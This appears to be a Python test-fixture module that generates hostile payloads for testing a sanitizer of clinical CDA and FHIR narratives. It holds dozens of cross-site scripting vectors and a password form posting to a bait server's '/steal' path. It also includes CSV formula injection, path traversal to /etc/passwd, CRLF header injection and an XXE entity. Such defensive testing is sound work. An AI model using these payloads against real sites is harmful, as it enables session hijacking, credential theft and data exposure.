# SPDX-License-Identifier: EUPL-1.2
"""Texts and markup that attack who shows them: scripts, handlers, addresses, styles, frames, disguises.

Each one, if it acts, calls `window.__canary` or fetches from the bait's server.
Source: OWASP, XSS Filter Evasion; HTML living standard, parsing; HL7, CDA stylesheet advisories 2014, 2020.
"""

# ruff: noqa: E501  (an attack reads on one line)

from __future__ import annotations

from typing import Final
from xml.sax.saxutils import escape

from tests.hostile.corpus.bait import Bait

ACT: Final = "window.__canary('x')"
XHTML: Final = "http://www.w3.org/1999/xhtml"
SVG: Final = "http://www.w3.org/2000/svg"
MATH: Final = "http://www.w3.org/1998/Math/MathML"


def texts(bait: Bait) -> dict[str, str]:
    """What is typed where plain text belongs: a name, a title, a label."""
    url = bait.url
    return {
        "script": f"<script>{ACT}</script>",
        "script-upper": f"<SCRIPT>{ACT}</SCRIPT>",
        "script-broken": f"<scr<script>ipt>{ACT}</scr</script>ipt>",
        "script-remote": f"<script src={url}/s.js></script>",
        "script-remote-no-scheme": f"<script src=//{url.partition('//')[2]}/s.js></script>",
        "script-module": f'<script type=module>import("{url}/m.js")</script>',
        "closes-attribute": f'"><script>{ACT}</script>',
        "closes-attribute-single": f"'><script>{ACT}</script>",
        "closes-title": f"</title><script>{ACT}</script>",
        "closes-textarea": f"</textarea><script>{ACT}</script>",
        "closes-style": f"</style><script>{ACT}</script>",
        "closes-comment": f"--><script>{ACT}</script>",
        "closes-cdata": f"]]><script>{ACT}</script>",
        "closes-svg": f"</text></svg><script>{ACT}</script>",
        "handler-in-attribute": f'" onmouseover="{ACT}" autofocus onfocus="{ACT}" x="',
        "handler-in-attribute-single": f"' onmouseover='{ACT}' autofocus onfocus='{ACT}' x='",
        "handler-unquoted": f"x onmouseover={ACT} ",
        "img-onerror": f"<img src=x onerror={ACT}>",
        "img-onerror-slash": f"<img/src/onerror={ACT}>",
        "img-onerror-backtick": f"<img src=`x`onerror={ACT}>",
        "img-remote": f"<img src={url}/i.png>",
        "svg-onload": f"<svg onload={ACT}>",
        "svg-script": f"<svg><script>{ACT}</script></svg>",
        "svg-animate": f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
        "svg-set": f"<svg><a><set attributeName=href to='javascript:{ACT}'/><text y=20>x</text></a>",
        "svg-use": f"<svg><use href='data:image/svg+xml,<svg id=x xmlns={SVG} onload={ACT}/>#x'/>",
        "math-link": f"<math><maction actiontype=statusline xlink:href='javascript:{ACT}'>x",
        "body-onload": f"<body onload={ACT}>",
        "iframe": "<iframe src='javascript:parent.__canary(1)'></iframe>",
        "iframe-srcdoc": "<iframe srcdoc='<script>parent.__canary(1)</script>'></iframe>",
        "iframe-remote": f"<iframe src={url}/frame></iframe>",
        "object": f"<object data='javascript:{ACT}'></object>",
        "embed": f"<embed src={url}/e.swf>",
        "link-style": f"<link rel=stylesheet href={url}/s.css>",
        "link-prefetch": f"<link rel=prefetch href={url}/p><link rel=dns-prefetch href={url}>",
        "meta-refresh": f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
        "meta-refresh-script": f"<meta http-equiv=refresh content='0;url=javascript:{ACT}'>",
        "base": f"<base href={url}/>",
        "form": f"<form action={url}/steal><input name=password autofocus><button>OK",
        "input-onfocus": f"<input autofocus onfocus={ACT}>",
        "details": f"<details open ontoggle={ACT}>x",
        "video": f"<video><source onerror={ACT}></video>",
        "audio-remote": f"<audio src={url}/a.mp3 autoplay></audio>",
        "marquee": f"<marquee onstart={ACT}>x",
        "style": f"<style>@import '{url}/s.css';*{{background:url({url}/b)}}</style>",
        "style-attribute": f"<p style='background:url({url}/b)'>x",
        "style-animation": f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={ACT}>",
        "template": f"<template><script>{ACT}</script></template>",
        "template-shadow": f"<p><template shadowrootmode=open><img src=x onerror={ACT}></template>",
        "noscript": f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
        "mutation-math": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={ACT}&gt;'>",
        "mutation-svg": f"<svg></p><style><a id='</style><img src=x onerror={ACT}>'>",
        "conditional-comment": f"<!--[if gte IE 4]><script>{ACT}</script><![endif]-->",
        "entities": f"&lt;script&gt;{ACT}&lt;/script&gt;",
        "entities-twice": f"&amp;lt;script&amp;gt;{ACT}&amp;lt;/script&amp;gt;",
        "entities-number": f"&#60;img src=x onerror={ACT}&#62;",
        "template-language": "{{ 7*7 }}{% debug %}{% include 'admin/base.html' %}${7*7}#{7*7}",
        "javascript-url": f"javascript:{ACT}",
        "data-url": f"data:text/html,<script>{ACT}</script>",
        "csv": "=cmd|' /C calc'!A0",
        "newlines": "a\r\nSet-Cookie: x=1\r\n\r\n<script>window.__canary(1)</script>",
        "path": "../../../../etc/passwd",
        "percent": "%3Cscript%3Ewindow.__canary(1)%3C/script%3E",
        "utf-7": "+ADw-script+AD4-window.__canary(1)+ADw-/script+AD4-",
        "halves": "＜script＞window.__canary(1)＜/script＞",
        "bidi": "Compte rendu \u202efdp.exe\u202c \u2066<script>window.__canary(1)</script>\u2069",
        "homoglyph": "Моn dоssіеr \u0430\u0440\u0440le",
        "zero-width": "<scr\u200bipt>window.__canary(1)</scr\u200bipt>",
        "line-separators": "a\u2028<script>window.__canary(1)</script>\u2029",
        "combining": "Z" + "\u0335\u0489" * 300,
        "long": "<b>" * 3000,
        "quotes": "'\"`<>&;--/*\\",
    }  # fmt: skip


# What stands in an address: what a browser does with it is read after it drops blanks and controls.
def addresses(bait: Bait) -> dict[str, str]:
    """Of links, images, references."""
    return {
        "javascript": f"javascript:{ACT}",
        "javascript-case": f"JaVaScRiPt:{ACT}",
        "javascript-tab": f"java\tscript:{ACT}",
        "javascript-newline": f"java\nscript:{ACT}",
        "javascript-blank": f" \u00a0javascript:{ACT}",
        "javascript-percent": "javascript:%77indow.__canary(1)",
        "javascript-comment": f"javascript://%0A{ACT}",
        "vbscript": "vbscript:window.__canary(1)",
        "data-html": "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19jYW5hcnkoMSk8L3NjcmlwdD4=",
        "data-svg": f"data:image/svg+xml,<svg xmlns='{SVG}' onload='{ACT}'/>",
        "blob": "blob:null/x",
        "file": bait.uri,
        "remote": f"{bait.url}/link",
        "remote-no-scheme": f"//{bait.url.partition('//')[2]}/link",
        "remote-backslash": f"/\\{bait.url.partition('//')[2]}/link",
        "view-source": f"view-source:{bait.url}/v",
        "feed": f"feed:javascript:{ACT}",
    }


def _attribute(value: str) -> str:
    return escape(value, {'"': "&quot;", "\n": "&#10;", "\t": "&#9;", "\r": "&#13;"})


def narratives(bait: Bait) -> dict[str, str]:
    """What stands inside <text> of a section, as XML of a CDA."""
    url = bait.url
    made = {
        f"text-{name}": f"<paragraph>{_text(value)}</paragraph>"
        for name, value in texts(bait).items()
    }
    for name, value in addresses(bait).items():
        written = _attribute(value)
        made[f"link-{name}"] = f'<paragraph><linkHtml href="{written}">lien</linkHtml></paragraph>'
    raw = {
        "script": f"<script>{ACT}</script>",
        "script-xhtml": f'<script xmlns="{XHTML}">{ACT}</script>',
        "script-prefixed": f'<h:script xmlns:h="{XHTML}">{ACT}</h:script>',
        "script-svg": f'<svg xmlns="{SVG}" onload="{ACT}"><script>{ACT}</script></svg>',
        "svg-image": f'<svg xmlns="{SVG}"><image href="{url}/i.svg"/><use href="{url}/u.svg#x"/></svg>',
        "svg-foreign": f'<svg xmlns="{SVG}"><foreignObject><body xmlns="{XHTML}" onload="{ACT}"/></foreignObject></svg>',
        "math": f'<math xmlns="{MATH}" href="javascript:{ACT}"><mtext>x</mtext></math>',
        "iframe": f'<iframe src="{url}/frame"/>',
        "iframe-xhtml": f'<iframe xmlns="{XHTML}" srcdoc="&lt;script&gt;parent.__canary(1)&lt;/script&gt;"/>',
        "object": f'<object data="{url}/o"/><embed src="{url}/e"/><applet code="x"/>',
        "form": f'<form action="{url}/steal"><input name="password"/><button>OK</button></form>',
        "meta": f'<meta http-equiv="refresh" content="0;url={url}/refresh"/>',
        "base": f'<base href="{url}/"/><link rel="stylesheet" href="{url}/s.css"/>',
        "style": f"<style>*{{background:url({url}/b)}}</style>",
        "img": f'<img src="{url}/i.png" onerror="{ACT}"/>',
        "image-multimedia": f'<renderMultiMedia referencedObject="{url}/i.png"/>',
        "image-multimedia-script": f'<renderMultiMedia referencedObject="javascript:{ACT}"><caption>{_text("<script>window.__canary(1)</script>")}</caption></renderMultiMedia>',
        "handlers-on-table": f'<table onmouseover="{ACT}" border="1" style="background:url({url}/t)"><tbody><tr><td onclick="{ACT}" background="{url}/bg">x</td></tr></tbody></table>',
        "handlers-on-content": f'<content onmouseover="{ACT}" onfocus="{ACT}" tabindex="0" styleCode="Bold">x</content>',
        "style-code": f'<content styleCode="Bold&quot; onmouseover=&quot;{ACT}">x</content>',
        "style-code-class": '<content styleCode="carnet-hidden xRgb.FF0000 Bold">x</content>',
        "span-attribute": f'<table><tbody><tr><td colspan="2&quot; onclick=&quot;{ACT}" rowspan="99999999" scope="row&gt;&lt;script&gt;">x</td></tr></tbody></table>',
        "span-huge": '<table><tbody><tr><td colspan="1000" rowspan="1000">x</td></tr></tbody></table>' * 20,
        "id": f'<paragraph ID="results&quot; onclick=&quot;{ACT}"><content ID="__canary">x</content></paragraph>',
        "id-clobbers": '<paragraph ID="body"><content ID="cookie">x</content></paragraph>',
        "list-type": f'<list listType="ordered&quot; onclick=&quot;{ACT}"><item>x</item></list>',
        "footnote": f'<footnote ID="javascript:{ACT}">x</footnote><footnoteRef IDREF="javascript:{ACT}"/>',
        "caption": f"<caption>{_text('<img src=x onerror=window.__canary(1)>')}</caption>",
        "nesting-broken": "<paragraph><table><tbody><tr><td><paragraph><list><item><table><tbody><tr><td>x</td></tr></tbody></table></item></list></paragraph></td></tr></tbody></table></paragraph>",
        "table-in-nothing": "<tr><td>x</td></tr><td>y</td><item>z</item><caption>c</caption>",
        "deep": "<content>" * 100 + "x" + "</content>" * 100,
        "cdata": f"<![CDATA[<script>{ACT}</script>]]>",
        "cdata-split": f"<paragraph><![CDATA[<scr]]><![CDATA[ipt>{ACT}</script>]]></paragraph>",
        "references": f"<paragraph>&#60;script&#62;{ACT}&#60;/script&#62;</paragraph>",
        "instruction": f'<?xml-stylesheet href="javascript:{ACT}"?><paragraph>x</paragraph>',
        "comment": f"<!--><script>{ACT}</script>--><paragraph>x</paragraph>".replace("<!-->", "<!-- >"),
        "template": f'<template xmlns="{XHTML}"><img src="x" onerror="{ACT}"/></template>',
        "xlink": f'<paragraph xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:{ACT}" xlink:actuate="onLoad">x</paragraph>',
        "xml-base": f'<paragraph xml:base="{url}/"><linkHtml href="x">x</linkHtml></paragraph>',
        "many": "<paragraph>x</paragraph>" * 5000,
        "many-links": f'<linkHtml href="{url}/l">x</linkHtml>' * 500,
    }  # fmt: skip
    return made | {f"raw-{name}": value for name, value in raw.items()}


def divs(bait: Bait) -> dict[str, str]:
    """Narratives of FHIR that must be refused: the inside of a div."""
    url = bait.url
    inside = {
        "script": f"<script>{ACT}</script>",
        "handler": f'<p onclick="{ACT}">x</p>',
        "handler-upper": f'<p ONCLICK="{ACT}">x</p>',
        "svg": f'<svg xmlns="{SVG}" onload="{ACT}"/>',
        "math": f'<math xmlns="{MATH}"/>',
        "iframe": f'<iframe src="{url}/f"/>',
        "object": f'<object data="{url}/o"/>',
        "embed": f'<embed src="{url}/e"/>',
        "form": f'<form action="{url}/f"><input name="x"/></form>',
        "input": '<input autofocus="" />',
        "button": "<button>x</button>",
        "style": f"<style>@import url({url}/s.css)</style>",
        "style-expression": f'<p style="width:expression({ACT})">x</p>',
        "style-import": f'<p style="@import url({url}/s)">x</p>',
        "style-escape": '<p style="\\65xpression(1)">x</p>',
        "link": f'<link rel="stylesheet" href="{url}/s.css"/>',
        "meta": f'<meta http-equiv="refresh" content="0;url={url}"/>',
        "base": f'<base href="{url}/"/>',
        "template": f"<template><p>{_text('x')}</p></template>",
        "noscript": "<noscript>x</noscript>",
        "title": "<title>x</title>",
        "video": f'<video src="{url}/v"/>',
        "picture": f'<picture><source srcset="{url}/s"/></picture>',
        "custom": "<x-canary>x</x-canary>",
        "data-attribute": '<p data-x="1">x</p>',
        "srcset": f'<img src="x" srcset="{url}/s 2x"/>',
        "formaction": f'<a formaction="javascript:{ACT}">x</a>',
        "ping": f'<a href="#" ping="{url}/ping">x</a>',
        "target": '<a href="#" target="_top">x</a>',
        "download": '<a href="#" download="x.exe">x</a>',
        "background": f'<table background="{url}/b"><tr><td>x</td></tr></table>',
        "other-namespace": '<p xmlns="urn:x">x</p>',
        "entity": "<p>&nbsp;</p>",
        "not-closed": "<p>x",
        "empty": "",
        "blank": "<p> </p>",
    }
    for name, value in addresses(bait).items():
        if not name.startswith(("remote", "blob")):
            inside[f"a-{name}"] = f'<a href="{_attribute(value)}">x</a>'
            if name != "data-svg":
                inside[f"img-{name}"] = f'<img alt="x" src="{_attribute(value)}"/>'
    kept = {"a-javascript-blank", "a-feed", "a-view-source", "a-file"}  # also refused, said here
    assert kept <= set(inside)
    made = {name: f'<div xmlns="{XHTML}">{value}</div>' for name, value in inside.items()}
    return made | {
        "doctype": f'<!DOCTYPE div [<!ENTITY x SYSTEM "{bait.uri}">]><div xmlns="{XHTML}">&x;</div>',
        "no-namespace": "<div>x</div>",
        "root-script": f'<script xmlns="{XHTML}">{ACT}</script>',
        "root-handler": f'<div xmlns="{XHTML}" onclick="{ACT}">x</div>',
        "two-roots": f'<div xmlns="{XHTML}">x</div><div xmlns="{XHTML}">y</div>',
        "text": "x",
        "nothing": "",
    }


def _text(value: str) -> str:
    """Text in XML: controls that XML has no place for are left out."""
    return escape("".join(c for c in value if c >= " " or c in "\t\n\r")).replace("\r", "&#13;")
